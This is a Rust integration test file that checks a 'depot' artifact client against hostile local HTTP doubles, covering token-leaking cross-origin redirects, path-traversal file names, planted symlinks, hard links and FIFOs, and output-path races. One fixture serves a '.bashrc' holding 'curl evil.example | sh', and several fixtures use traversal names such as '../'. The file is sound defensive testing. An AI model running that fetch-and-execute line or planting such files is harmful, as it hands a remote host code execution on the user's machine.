//! The `depot` client against hostile servers and a hostile file system (issue 10,
//! finding 11): redirects to another origin, server-chosen file names, planted symlinks
//! and other files in the way of a pull. The hostile servers are small HTTP doubles in
//! this file that record every request they get; the client runs as a child process.

mod common;

use axum::body::Body;
use axum::extract::Request;
use axum::http::{HeaderMap, HeaderValue, Method, StatusCode};
use axum::response::Response;
use common::*;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

// ---- the client -----------------------------------------------------------------------

#[derive(Debug)]
struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    #[track_caller]
    fn assert_code(&self, code: i32) -> &Run {
        assert_eq!(
            self.code, code,
            "unexpected exit code\n--- stdout ---\n{}\n--- stderr ---\n{}",
            self.stdout, self.stderr
        );
        self
    }

    #[track_caller]
    fn assert_ok(&self) -> &Run {
        self.assert_code(0)
    }

    #[track_caller]
    fn assert_stderr_has(&self, text: &str) -> &Run {
        assert!(
            self.stderr.contains(text),
            "stderr lacks {text:?}:\n{}",
            self.stderr
        );
        self
    }
}

/// The client binary with DEPOT_URL and DEPOT_TOKEN, in a working directory of its own.
struct Cli {
    url: String,
    token: String,
    dir: tempfile::TempDir,
}

impl Cli {
    fn new(url: &str, token: &str) -> Cli {
        Cli {
            url: url.trim_end_matches('/').to_string(),
            token: token.to_string(),
            dir: temp_dir("depot-cli-sec-"),
        }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    async fn run(&self, args: &[&str]) -> Run {
        let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_depot"));
        cmd.args(args)
            .current_dir(self.dir.path())
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true);
        for (key, _) in std::env::vars() {
            if key.starts_with("DEPOT_") {
                cmd.env_remove(key);
            }
        }
        cmd.env("DEPOT_URL", &self.url)
            .env("DEPOT_TOKEN", &self.token);
        let child = cmd.spawn().expect("spawn the depot client");
        let out = tokio::time::timeout(Duration::from_secs(60), child.wait_with_output())
            .await
            .unwrap_or_else(|_| panic!("depot {args:?} did not finish within 60 s"))
            .expect("wait for the depot client");
        let run = Run {
            code: out
                .status
                .code()
                .expect("the client exited (not by a signal)"),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        };
        assert!(
            !run.stdout.contains(&self.token) && !run.stderr.contains(&self.token),
            "the raw token appears in the output of depot {args:?}: {run:?}"
        );
        run
    }

    /// The names in the working directory, dot-files included.
    fn files(&self) -> Vec<String> {
        names_in(self.dir.path())
    }
}

fn temp_dir(prefix: &str) -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix(prefix)
        .tempdir()
        .expect("temp dir")
}

fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("read dir")
        .map(|e| {
            e.expect("dir entry")
                .file_name()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    names.sort();
    names
}

fn a_token() -> String {
    format!("depot_{}", random_string(43))
}

// ---- hostile servers ------------------------------------------------------------------

/// One request a double received.
#[derive(Debug, Clone)]
struct Seen {
    method: Method,
    path: String,
    headers: HeaderMap,
}

impl Seen {
    /// Every header value, as text, to look for a leaked token in.
    fn header_text(&self) -> String {
        self.headers
            .iter()
            .map(|(k, v)| format!("{k}: {}\n", String::from_utf8_lossy(v.as_bytes())))
            .collect()
    }
}

/// An HTTP server that answers every request with `respond` and records what it got.
struct Double {
    url: String,
    seen: Arc<Mutex<Vec<Seen>>>,
    task: tokio::task::JoinHandle<()>,
}

impl Double {
    async fn start(respond: impl Fn(&Seen) -> Response + Send + Sync + 'static) -> Double {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind the double");
        let url = format!("http://{}", listener.local_addr().expect("addr"));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let respond = Arc::new(respond);
        let record = seen.clone();
        let app = axum::Router::new().fallback(move |req: Request| {
            let seen = Seen {
                method: req.method().clone(),
                path: req
                    .uri()
                    .path_and_query()
                    .map(|p| p.to_string())
                    .unwrap_or_default(),
                headers: req.headers().clone(),
            };
            record.lock().unwrap().push(seen.clone());
            let response = respond(&seen);
            async move { response }
        });
        let task = tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        Double { url, seen, task }
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }
}

impl Drop for Double {
    fn drop(&mut self) {
        self.task.abort();
    }
}

fn json_response(body: &str) -> Response {
    Response::builder()
        .header("content-type", "application/json")
        .body(Body::from(body.to_string()))
        .unwrap()
}

/// What Depot answers for a download: the bytes, their SHA-256 and ETag, and `name` in
/// Content-Disposition (given verbatim: the double may send anything there).
fn artifact_response(name: &str, bytes: &[u8]) -> Response {
    let digest = sha256_hex(bytes);
    Response::builder()
        .header("content-length", bytes.len())
        .header("x-checksum-sha256", &digest)
        .header("etag", format!("\"sha256-{digest}\""))
        .header(
            "content-disposition",
            HeaderValue::from_bytes(format!("attachment; filename=\"{name}\"").as_bytes())
                .expect("header value"),
        )
        .body(Body::from(bytes.to_vec()))
        .unwrap()
}

/// A double serving one artifact under the file name `name` at every path.
async fn artifact_server(name: &str, bytes: &[u8]) -> Double {
    let (name, bytes) = (name.to_string(), bytes.to_vec());
    Double::start(move |_| artifact_response(&name, &bytes)).await
}

/// A TCP proxy to `port` that records every byte the client sent through it.
async fn recording_proxy(port: u16) -> (String, Arc<Mutex<Vec<u8>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind the proxy");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    let sent = Arc::new(Mutex::new(Vec::new()));
    let record = sent.clone();
    tokio::spawn(async move {
        while let Ok((client, _)) = listener.accept().await {
            let record = record.clone();
            tokio::spawn(async move {
                let Ok(upstream) = tokio::net::TcpStream::connect(("127.0.0.1", port)).await else {
                    return;
                };
                let (mut client_read, mut client_write) = client.into_split();
                let (mut upstream_read, mut upstream_write) = upstream.into_split();
                let forward = async {
                    let mut buf = vec![0u8; 64 * 1024];
                    loop {
                        match client_read.read(&mut buf).await {
                            Ok(0) | Err(_) => break,
                            Ok(n) => {
                                record.lock().unwrap().extend_from_slice(&buf[..n]);
                                if upstream_write.write_all(&buf[..n]).await.is_err() {
                                    break;
                                }
                            }
                        }
                    }
                    let _ = upstream_write.shutdown().await;
                };
                let back = tokio::io::copy(&mut upstream_read, &mut client_write);
                let _ = tokio::join!(forward, back);
            });
        }
    });
    (url, sent)
}

// ---- redirects and the token ----------------------------------------------------------

#[tokio::test]
async fn a_redirect_to_another_origin_is_refused_and_the_token_never_reaches_it() {
    let elsewhere = Double::start(|seen| {
        if seen.path.starts_with("/product/download/") {
            artifact_response("loot.bin", b"loot")
        } else {
            json_response("[]")
        }
    })
    .await;
    let statuses = [301u16, 302, 303, 307, 308];
    for status in statuses {
        let target = elsewhere.url.clone();
        let hostile = Double::start(move |seen| {
            Response::builder()
                .status(status)
                .header("location", format!("{target}{}", seen.path))
                .body(Body::empty())
                .unwrap()
        })
        .await;
        let token = a_token();
        let cli = Cli::new(&hostile.url, &token);
        std::fs::write(cli.path("a.bin"), b"abc").unwrap();
        for args in [
            vec!["ls"],
            vec!["ls", "p"],
            vec!["pull", "p", "1.0.0"],
            vec!["push", "p", "1.0.0", "a.bin"],
            vec!["token", "fetch", "tok_0123456789abcdef"],
            vec!["product", "create", "p"],
        ] {
            let run = cli.run(&args).await;
            run.assert_code(7)
                .assert_stderr_has("another origin")
                .assert_stderr_has(&elsewhere.url)
                .assert_stderr_has("DEPOT_URL");
        }
        let leaked: Vec<Seen> = elsewhere
            .seen()
            .into_iter()
            .filter(|s| s.header_text().contains(&token))
            .collect();
        assert!(
            leaked.is_empty(),
            "after a {status}, the other origin received the token: {leaked:?}"
        );
        assert!(
            elsewhere.seen().is_empty(),
            "after a {status}, the client went to the other origin at all: {:?}",
            elsewhere.seen()
        );
        // The hostile server itself is --url: it got the token, as a Bearer header.
        let first = &hostile.seen()[0];
        assert_eq!(
            first.headers.get("authorization").map(|v| v.as_bytes()),
            Some(format!("Bearer {token}").as_bytes())
        );
        assert_eq!(cli.files(), ["a.bin"], "nothing was written");
    }
}

#[tokio::test]
async fn a_redirect_to_the_same_host_on_another_port_or_scheme_is_another_origin() {
    // Only the port or scheme differs: still not the server the user named.
    let elsewhere = Double::start(|_| json_response("[\"stolen\"]")).await;
    let port = elsewhere.url.rsplit(':').next().unwrap().to_string();
    for location in [
        format!("http://localhost:{port}/product/access"),
        format!("https://127.0.0.1:{port}/product/access"),
    ] {
        let hostile = Double::start(move |_| {
            Response::builder()
                .status(StatusCode::FOUND)
                .header("location", location.clone())
                .body(Body::empty())
                .unwrap()
        })
        .await;
        let cli = Cli::new(&hostile.url, &a_token());
        cli.run(&["ls"])
            .await
            .assert_code(7)
            .assert_stderr_has("another origin");
    }
    assert!(elsewhere.seen().is_empty(), "{:?}", elsewhere.seen());
}

#[tokio::test]
async fn a_redirect_within_the_same_origin_is_followed_with_the_token() {
    let server = Double::start(|seen| match seen.path.as_str() {
        "/product/access" => Response::builder()
            .status(StatusCode::FOUND)
            .header("location", "/moved/access")
            .body(Body::empty())
            .unwrap(),
        "/moved/access" => json_response("[\"alpha\",\"beta\"]"),
        _ => Response::builder()
            .status(StatusCode::NOT_FOUND)
            .body(Body::empty())
            .unwrap(),
    })
    .await;
    let token = a_token();
    let cli = Cli::new(&server.url, &token);
    let run = cli.run(&["ls"]).await;
    run.assert_ok();
    assert_eq!(run.stdout, "alpha\nbeta\n");
    let seen = server.seen();
    let moved = seen
        .iter()
        .find(|s| s.path == "/moved/access")
        .expect("the redirect was followed");
    assert_eq!(
        moved.headers.get("authorization").map(|v| v.as_bytes()),
        Some(format!("Bearer {token}").as_bytes())
    );
    assert!(
        moved.headers.get("referer").is_none(),
        "no Referer (a previous path may hold a raw token): {moved:?}"
    );
}

#[tokio::test]
async fn the_cli_authenticates_to_depot_with_a_bearer_header_and_never_sends_x_api_token() {
    let app = TestApp::start().await;
    let product = app.product().await;
    let (url, sent) = recording_proxy(app.port()).await;
    let cli = Cli::new(&url, app.admin());
    let bytes = payload(40, 300_000);
    std::fs::write(cli.path("app.tgz"), &bytes).unwrap();
    cli.run(&["push", &product, "1.0.0", "app.tgz"])
        .await
        .assert_ok();
    cli.run(&["pull", &product, "1.0.0", "-o", "copy.tgz"])
        .await
        .assert_ok();
    assert!(std::fs::read(cli.path("copy.tgz")).unwrap() == bytes);
    cli.run(&["ls", &product]).await.assert_ok();

    let sent = String::from_utf8_lossy(&sent.lock().unwrap()).to_ascii_lowercase();
    let bearer = format!(
        "authorization: bearer {}\r\n",
        app.admin().to_ascii_lowercase()
    );
    // HEAD probe and POST (push), HEAD and GET (pull), GET (ls).
    assert!(
        sent.matches(&bearer).count() >= 5,
        "the requests did not all carry the Bearer header"
    );
    assert!(
        !sent.contains("x-api-token"),
        "an X-Api-Token header was sent"
    );
}

// ---- server-chosen file names ---------------------------------------------------------

#[tokio::test]
async fn a_server_chosen_bashrc_is_not_written_and_an_existing_one_is_untouched() {
    let server = artifact_server(".bashrc", b"curl evil.example | sh\n").await;
    let cli = Cli::new(&server.url, &a_token());
    // First with no .bashrc, then with one in place.
    let run = cli.run(&["pull", "p", "latest"]).await;
    run.assert_code(1)
        .assert_stderr_has(".bashrc")
        .assert_stderr_has("-o");
    assert!(cli.files().is_empty(), "written: {:?}", cli.files());

    std::fs::write(cli.path(".bashrc"), b"# mine\n").unwrap();
    cli.run(&["pull", "p", "latest"]).await.assert_code(1);
    cli.run(&["pull", "p", "latest", "--force"])
        .await
        .assert_code(1);
    assert_eq!(std::fs::read(cli.path(".bashrc")).unwrap(), b"# mine\n");
    assert_eq!(cli.files(), [".bashrc"], "no .part or .part.etag either");
    assert!(
        server.seen().iter().all(|s| s.method == Method::HEAD),
        "nothing was downloaded: {:?}",
        server.seen()
    );
}

#[tokio::test]
async fn server_chosen_paths_and_control_characters_in_a_file_name_are_refused_and_nothing_is_written()
 {
    let outside = temp_dir("depot-cli-outside-");
    let victim = outside.path().join("victim");
    std::fs::write(&victim, b"precious").unwrap();
    let escape = unique("depot-escape");
    let names = [
        format!("../{escape}"),
        format!("{}/victim", outside.path().display()),
        format!("{}/new-file", outside.path().display()),
        "sub/dir.bin".to_string(),
        "..\\\\windows.bin".to_string(),
        "..".to_string(),
        ".".to_string(),
        "tab\there.bin".to_string(),
        " ".to_string(),
    ];
    for name in names {
        let server = artifact_server(&name, b"payload").await;
        let cli = Cli::new(&server.url, &a_token());
        std::fs::create_dir(cli.path("sub")).unwrap();
        let run = cli.run(&["pull", "p", "1.0.0"]).await;
        run.assert_code(1).assert_stderr_has("-o");
        assert_eq!(cli.files(), ["sub"], "{name:?}: written in the working dir");
        assert!(names_in(&cli.path("sub")).is_empty(), "{name:?}");
        let parent = cli.dir.path().parent().unwrap();
        assert!(
            !parent.join(&escape).exists(),
            "{name:?} escaped the working dir"
        );
        assert_eq!(names_in(outside.path()), ["victim"], "{name:?}");
        assert_eq!(std::fs::read(&victim).unwrap(), b"precious", "{name:?}");
    }
}

#[tokio::test]
async fn a_plain_server_chosen_name_is_still_used() {
    let server = artifact_server("tool-2.1.0.tgz", b"tool").await;
    let cli = Cli::new(&server.url, &a_token());
    cli.run(&["pull", "p", "2.1.0"]).await.assert_ok();
    assert_eq!(cli.files(), ["tool-2.1.0.tgz"]);
    assert_eq!(std::fs::read(cli.path("tool-2.1.0.tgz")).unwrap(), b"tool");
}

// ---- the .part file -------------------------------------------------------------------

#[tokio::test]
async fn a_planted_part_symlink_is_not_followed_and_its_target_is_untouched() {
    let bytes = payload(41, 100_000);
    let server = artifact_server("out.bin", &bytes).await;
    let etag = format!("\"sha256-{}\"", sha256_hex(&bytes));
    let outside = temp_dir("depot-cli-outside-");
    let victim = outside.path().join("victim");
    // Without and with a matching .part.etag (which would make the client resume).
    for with_etag in [false, true] {
        std::fs::write(&victim, b"precious").unwrap();
        let cli = Cli::new(&server.url, &a_token());
        std::os::unix::fs::symlink(&victim, cli.path("out.bin.part")).unwrap();
        if with_etag {
            std::fs::write(cli.path("out.bin.part.etag"), &etag).unwrap();
        }
        let run = cli.run(&["pull", "p", "1.0.0", "-o", "out.bin"]).await;
        run.assert_code(1)
            .assert_stderr_has("out.bin.part")
            .assert_stderr_has("symlink");
        assert_eq!(std::fs::read(&victim).unwrap(), b"precious");
        assert!(!cli.path("out.bin").exists(), "with_etag={with_etag}");
        assert!(
            std::fs::symlink_metadata(cli.path("out.bin.part"))
                .unwrap()
                .file_type()
                .is_symlink(),
            "the planted link is left for the user to look at"
        );
        // Also a dangling link: the client must not create the file it points to.
        let dangling = outside.path().join("created-through-link");
        std::fs::remove_file(cli.path("out.bin.part")).unwrap();
        std::os::unix::fs::symlink(&dangling, cli.path("out.bin.part")).unwrap();
        cli.run(&["pull", "p", "1.0.0", "-o", "out.bin"])
            .await
            .assert_code(1);
        assert!(!dangling.exists());
        assert!(!cli.path("out.bin").exists());
    }
}

#[tokio::test]
async fn a_planted_part_etag_symlink_is_replaced_not_written_through() {
    let bytes = payload(42, 10_000);
    let server = artifact_server("out.bin", &bytes).await;
    let outside = temp_dir("depot-cli-outside-");
    let victim = outside.path().join("victim");
    std::fs::write(&victim, b"precious").unwrap();
    let cli = Cli::new(&server.url, &a_token());
    std::os::unix::fs::symlink(&victim, cli.path("out.bin.part.etag")).unwrap();
    cli.run(&["pull", "p", "1.0.0", "-o", "out.bin"])
        .await
        .assert_ok();
    assert_eq!(std::fs::read(&victim).unwrap(), b"precious");
    assert!(std::fs::read(cli.path("out.bin")).unwrap() == bytes);
    assert_eq!(cli.files(), ["out.bin"]);
}

#[tokio::test]
async fn a_part_file_that_is_a_hard_link_a_fifo_or_a_directory_is_refused() {
    let bytes = payload(43, 10_000);
    let server = artifact_server("out.bin", &bytes).await;
    let etag = format!("\"sha256-{}\"", sha256_hex(&bytes));
    let outside = temp_dir("depot-cli-outside-");
    let victim = outside.path().join("victim");
    std::fs::write(&victim, b"precious").unwrap();

    let cli = Cli::new(&server.url, &a_token());
    std::fs::hard_link(&victim, cli.path("out.bin.part")).unwrap();
    std::fs::write(cli.path("out.bin.part.etag"), &etag).unwrap();
    cli.run(&["pull", "p", "1.0.0", "-o", "out.bin"])
        .await
        .assert_code(1)
        .assert_stderr_has("hard link");
    assert_eq!(std::fs::read(&victim).unwrap(), b"precious");
    assert!(!cli.path("out.bin").exists());

    let cli = Cli::new(&server.url, &a_token());
    let status = std::process::Command::new("mkfifo")
        .arg(cli.path("out.bin.part"))
        .status()
        .expect("run mkfifo");
    assert!(status.success());
    cli.run(&["pull", "p", "1.0.0", "-o", "out.bin"])
        .await
        .assert_code(1)
        .assert_stderr_has("not a regular file");
    assert!(!cli.path("out.bin").exists());

    let cli = Cli::new(&server.url, &a_token());
    std::fs::create_dir(cli.path("out.bin.part")).unwrap();
    cli.run(&["pull", "p", "1.0.0", "-o", "out.bin"])
        .await
        .assert_code(1);
    assert!(!cli.path("out.bin").exists());
}

// ---- existing files -------------------------------------------------------------------

#[tokio::test]
async fn an_existing_output_is_not_overwritten_without_force_and_is_replaced_with_it() {
    let app = TestApp::start().await;
    let product = app.product().await;
    let bytes = payload(44, 200_000);
    app.upload_form(
        Some(app.admin()),
        Form::upload(&product, "1.0.0", "tool.tgz", &bytes),
    )
    .await
    .assert_status(201);
    let cli = Cli::new(&app.url(""), app.admin());
    std::fs::write(cli.path("out.bin"), b"old").unwrap();
    std::fs::write(cli.path("tool.tgz"), b"old tool").unwrap();

    // An -o path and the server's own name alike.
    for args in [
        vec!["pull", product.as_str(), "1.0.0", "-o", "out.bin"],
        vec!["pull", product.as_str(), "1.0.0"],
    ] {
        cli.run(&args)
            .await
            .assert_code(5)
            .assert_stderr_has("already exists")
            .assert_stderr_has("--force");
    }
    assert_eq!(std::fs::read(cli.path("out.bin")).unwrap(), b"old");
    assert_eq!(std::fs::read(cli.path("tool.tgz")).unwrap(), b"old tool");
    assert_eq!(cli.files(), ["out.bin", "tool.tgz"]);

    cli.run(&["pull", &product, "1.0.0", "-o", "out.bin", "--force"])
        .await
        .assert_ok();
    cli.run(&["pull", &product, "1.0.0", "--force"])
        .await
        .assert_ok();
    assert!(std::fs::read(cli.path("out.bin")).unwrap() == bytes);
    assert!(std::fs::read(cli.path("tool.tgz")).unwrap() == bytes);
    assert_eq!(cli.files(), ["out.bin", "tool.tgz"]);
}

#[tokio::test]
async fn force_replaces_a_symlink_at_the_output_path_not_the_file_it_points_to() {
    let bytes = payload(45, 10_000);
    let server = artifact_server("out.bin", &bytes).await;
    let outside = temp_dir("depot-cli-outside-");
    let victim = outside.path().join("victim");
    std::fs::write(&victim, b"precious").unwrap();
    let cli = Cli::new(&server.url, &a_token());
    std::os::unix::fs::symlink(&victim, cli.path("out.bin")).unwrap();
    cli.run(&["pull", "p", "1.0.0", "-o", "out.bin"])
        .await
        .assert_code(5);
    // A dangling link counts as existing too.
    std::os::unix::fs::symlink(outside.path().join("nothing"), cli.path("dangling")).unwrap();
    cli.run(&["pull", "p", "1.0.0", "-o", "dangling"])
        .await
        .assert_code(5);
    assert!(!outside.path().join("nothing").exists());

    cli.run(&["pull", "p", "1.0.0", "-o", "out.bin", "--force"])
        .await
        .assert_ok();
    assert_eq!(std::fs::read(&victim).unwrap(), b"precious");
    let meta = std::fs::symlink_metadata(cli.path("out.bin")).unwrap();
    assert!(meta.file_type().is_file(), "the link itself was replaced");
    assert!(std::fs::read(cli.path("out.bin")).unwrap() == bytes);
}

#[tokio::test]
async fn a_file_that_appears_at_the_output_during_the_download_is_not_clobbered() {
    let bytes = payload(46, 50_000);
    let cli_dir = temp_dir("depot-cli-race-");
    let target = cli_dir.path().join("out.bin");
    let server = {
        let (bytes, target) = (bytes.clone(), target.clone());
        Double::start(move |seen| {
            if seen.method == Method::GET {
                // Someone else writes the output path after the client checked it.
                std::fs::write(&target, b"raced").unwrap();
            }
            artifact_response("out.bin", &bytes)
        })
        .await
    };
    let mut cli = Cli::new(&server.url, &a_token());
    cli.dir = cli_dir;
    cli.run(&["pull", "p", "1.0.0", "-o", "out.bin"])
        .await
        .assert_code(5)
        .assert_stderr_has("--force");
    assert_eq!(std::fs::read(&target).unwrap(), b"raced");
    // The verified download is kept: --force finishes it without a new download.
    assert!(std::fs::read(cli.path("out.bin.part")).unwrap() == bytes);
    let gets = |d: &Double| d.seen().iter().filter(|s| s.method == Method::GET).count();
    let before = gets(&server);
    cli.run(&["pull", "p", "1.0.0", "-o", "out.bin", "--force"])
        .await
        .assert_ok();
    assert!(std::fs::read(&target).unwrap() == bytes);
    assert_eq!(gets(&server), before, "the complete .part was reused");
    assert_eq!(cli.files(), ["out.bin"]);
}
